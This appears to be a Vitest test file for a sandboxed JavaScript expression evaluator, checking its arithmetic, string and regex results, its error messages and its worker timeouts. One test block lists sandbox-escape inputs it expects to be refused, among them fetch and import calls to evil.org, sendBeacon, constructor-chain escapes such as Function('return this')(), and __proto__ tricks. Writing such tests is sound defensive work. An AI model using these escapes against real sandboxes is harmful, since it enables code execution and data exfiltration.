// Expressions: what they can say, and that nothing of the browser is in their reach.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions are texts.
import { describe, expect, test } from 'vitest';
import { worked } from './worked.ts';
import { createWorkOut, type ExpressionWorker, MOST_MS } from './working.ts';

// biome-ignore lint/security/noGlobalEval: it gives the expected values of a fixed list.
const evaluated = globalThis.eval;

const input = { text: 'USER: "The weather in Paris?"\nCOMMAND=X<EOC>', argument: 'Köln' };
const of = (source: string): string => {
  const made = worked({ source, ...input });
  return made.ok ? made.text : `! ${made.words}`;
};

describe('as JavaScript has it', () => {
  // Each is worked out by JavaScript, too.
  test.each([
    '1 + 2 * 3 ** 2 / 4 % 5',
    '-2 + +"3" - 1',
    '"a" + 1 + true + null + undefined',
    '(1 + 2) * 3',
    '2 ** 3 ** 2',
    '1 < 2 && "b" >= "a" || false',
    'null ?? "x"',
    '0 || "y"',
    '!0 ? "yes" : "no"',
    '1 ? 2 ? "a" : "b" : "c"',
    '1 === 1.0',
    '"1" == 1',
    '[1, 2, ...[3, 4]].map(x => x * 2).join("-")',
    '[3, 1, 2].toSorted((a, b) => a - b).join()',
    '"a,b;c".split(/[,;]/).length',
    '"x".repeat(3).padStart(5, "-")',
    '"aXbX".replaceAll("X", "$&$&")',
    '"a1b22".replace(/\\d+/g, d => d * 2)',
    '`a${1 + 1}b${`c${"}"}`}`',
    '"\\u00e9\\x41\\n\\\'".length',
    "'it\\'s'",
    '"abc".at(-1) + "abc"[0] + "abc".length',
    '({ a: { "b c": [1, 2] } }).a["b c"][1]',
    'Math.max(...[1, 5, 3]) + Math.round(2.5)',
    'JSON.stringify({ a: [1, "x", null] })',
    'JSON.parse("{\\"t\\": 21.5}").t.toFixed(2)',
    '((a, b) => a + b)(1, 2)',
    'typeof "x" + typeof 1',
    '0x1F + 1e3 + .5',
    '"Grüße".toUpperCase()',
    '(x => y => x + y)(1)(2)',
    '"2024-05-01".match(/(?<y>\\d+)-(\\d+)/).groups.y',
    '[..."aé"].length',
    '[1, 2, 3].reduce((s, x) => s + x, 0)',
    'Object.entries({ a: 1 })[0][0]',
    '/* c */ 1 // d',
    '6 / 2 / 3',
    'Number("12") + parseInt("0x10", 16)',
    '[[1, [2]], 3].flat().length',
    'encodeURIComponent("a b")',
    '"b" < "a" ? 1 : 2',
  ])('%s', source => {
    const expected: unknown = evaluated(source.startsWith('{') ? `(${source})` : source);
    expect(of(source)).toBe(String(expected));
  });

  test('it reads the text and the argument', () => {
    expect(of('`${text.match(/in ([A-Z]\\w+)/)?.[1]} ${argument}`')).toBe('Paris Köln');
    expect(of('text.match(/Rome/)?.[1].length.x ?? "nowhere"')).toBe('nowhere');
    expect(of('undefined')).toBe('');
    expect(of('({ a: 1 })')).toBe('{"a":1}');
  });
});

describe('nothing else is in reach', () => {
  test.each([
    'fetch("https://evil.org")',
    'new XMLHttpRequest()',
    'import("https://evil.org/x.js")',
    'importScripts("x")',
    'new WebSocket("wss://x")',
    'self',
    'globalThis',
    'window',
    'document',
    'this',
    'navigator.sendBeacon("https://evil.org")',
    'postMessage(1)',
    'eval("1")',
    'Function("return this")()',
    '(() => 1).constructor("return this")()',
    '"".constructor.constructor("return self")()',
    '[].constructor',
    '"".__proto__',
    '({}).constructor',
    '({}).__proto__.x',
    '({ __proto__: [] }).map',
    'text.constructor',
    'Math.constructor',
    'JSON.parse.constructor("x")',
    '[].map.constructor',
    '"a".replace.call',
    '[].concat.apply',
    '/x/.constructor',
    '(1).constructor',
    'Object.getPrototypeOf([])',
    'Reflect',
    'Proxy',
    'setTimeout(x => 1)',
    'Date.now()',
    'Math.random()',
    'crypto.randomUUID()',
    'indexedDB',
    'caches',
    'location.href',
    'WebAssembly',
    'toString()',
    'constructor',
    'hasOwnProperty("x")',
    'arguments',
    'x = 1',
    'text = 1',
    'delete text',
    'await 1',
    'async () => 1',
    'function () {}',
    'while (1) {}',
    '1; 2',
    '`${fetch}`',
    'a.b.c',
    'JSON.parse("{\\"constructor\\": 1}").constructor.constructor("x")',
    '[1].map(fetch)',
    '[1].map(self.fetch)',
    '"x".at.bind',
    'class {}',
    'text`x`',
    'super.x',
    'import.meta',
  ])('%s', source => {
    const made = worked({ source, ...input });
    // Refused, or a part that is not there.
    expect(made.ok ? made.text : made.words).toMatch(made.ok ? /^$/ : /\S+ .*\.$/);
  });

  test("own parts with the names of JavaScript's are plain values", () => {
    expect(of('JSON.parse("{\\"constructor\\": \\"x\\", \\"__proto__\\": 2}").constructor')).toBe('x');
    expect(Object.prototype).not.toHaveProperty('x');
    of('({ __proto__: { x: 1 } }).x');
    expect({}).not.toHaveProperty('x');
  });
});

test.each([
  ['', /ends where a value/],
  ['1 +', /ends where a value/],
  ['(1', /where \) should be/],
  ['"a', /not understood/],
  ['`a', /no end/],
  ['`${1`', /no end|not closed/],
  ['x => { 1 }', /without braces/],
  ['nothing', /does not know nothing/],
  ['text.shout()', /A text has no function shout/],
  ['null.x', /null has no part x/],
  ['/(/', /no regular expression/],
  ['() => 1', /function stands/],
  ['JSON.parse("{")', /no JSON/],
  [`${'('.repeat(100)}1${')'.repeat(100)}`, /too deeply/],
  ['!'.repeat(100), /too deeply/],
  ['1 '.repeat(3000), /more than 4000/],
  ['"x".repeat(2000000)', /longer than/],
  ['"x".padEnd(1e9)', /longer than/],
  ['"x".repeat(999).split("").map(x => "x".repeat(2000)).join("")', /longer than/],
  ['"aaaa".repeat(9999).replaceAll("a", "b".repeat(9999))', /longer than/],
  ['(f => f(f))(f => f(f))', /too much|too many/],
])('%j is refused in words', (source, why) => {
  const made = worked({ source, ...input });
  expect(made.ok ? made.text : made.words).toMatch(why);
  expect(made.ok).toBe(false);
});

class Scripted implements ExpressionWorker {
  ended = false;
  asked: unknown[] = [];
  readonly listeners = new Map<string, (event: never) => void>();
  postMessage(request: unknown): void {
    this.asked.push(request);
  }
  addEventListener(type: string, listener: (event: never) => void): void {
    this.listeners.set(type, listener);
  }
  terminate(): void {
    this.ended = true;
  }
  say(data: unknown): void {
    this.listeners.get('message')?.({ data } as never);
  }
}

describe('the worker', () => {
  const waits: { ms: number; callback: () => void }[] = [];
  const begun = (signal = new AbortController().signal) => {
    const worker = new Scripted();
    const workOut = createWorkOut(
      (ms, callback) => {
        waits.push({ ms, callback });
        return () => {};
      },
      () => worker,
    );
    return { worker, answer: workOut({ source: '1', ...input }, signal) };
  };

  test('is ended a second after it was asked, and not before it was there', async () => {
    const { worker, answer } = begun();
    expect(waits).toEqual([]);
    worker.say('ready');
    expect(worker.asked).toHaveLength(1);
    expect(waits.at(-1)?.ms).toBe(MOST_MS);
    waits.at(-1)?.callback();
    expect(await answer).toBeNull();
    expect(worker.ended).toBe(true);
  });

  test('is ended with its answer, and with the run', async () => {
    const one = begun();
    one.worker.say('ready');
    one.worker.say({ ok: true, text: 'x' });
    expect(await one.answer).toEqual({ ok: true, text: 'x' });
    expect(one.worker.ended).toBe(true);
    const abort = new AbortController();
    const two = begun(abort.signal);
    abort.abort();
    await expect(two.answer).rejects.toThrow();
    expect(two.worker.ended).toBe(true);
  });
});
